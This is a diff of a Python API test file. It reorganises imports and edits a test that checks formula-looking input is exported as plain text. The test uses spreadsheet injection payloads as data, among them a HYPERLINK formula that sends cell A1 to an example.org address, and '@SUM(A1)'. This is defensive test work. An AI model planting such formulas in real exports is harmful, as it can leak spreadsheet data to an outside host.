@@ -22,9 +22,11 @@ from service.clock_and_ids import new_id, now
 from tests.conftest import Api
 from tests.service.api.a_team import ATeam, Given, a_team, ok
 from tests.service.api.everybody import Everybody, everybody
+from tests.service.api.examples.trips import booking, euros, fixed, pounds
 from tests.service.api.setting import ballot, made, programme
 from tests.service.api.spreadsheet import cells
-from tests.service.api.test_trips import booking, euros, fixed, pounds
+
+pytestmark = pytest.mark.own_kring  # reports tell of everything
 
 Rows = list[dict[str, str]]
 
@@ -183,7 +185,7 @@ async def test_what_looks_like_a_formula_is_a_text(api: Api) -> None:
     manager = await api.as_("manager")
     evil = '=HYPERLINK("http://example.org/?"&A1,"klik")'
     opened = made(await manager.post("/programmes", json={"name": evil, "edition": "-1+1"}))["id"]
-    person = made(await manager.post("/people", json={"name": "Anna", "email": "a@example.org"}))["id"]
+    person = made(await manager.post("/people", json={"name": "Anna", "email": api.address("a")}))["id"]
     bank = made(await manager.post("/organisations", json={"name": "@SUM(A1)"}))["id"]
     body = {"person_id": person, "organisation_id": bank}
     made(await manager.post(f"/programmes/{opened}/participants", json=body))
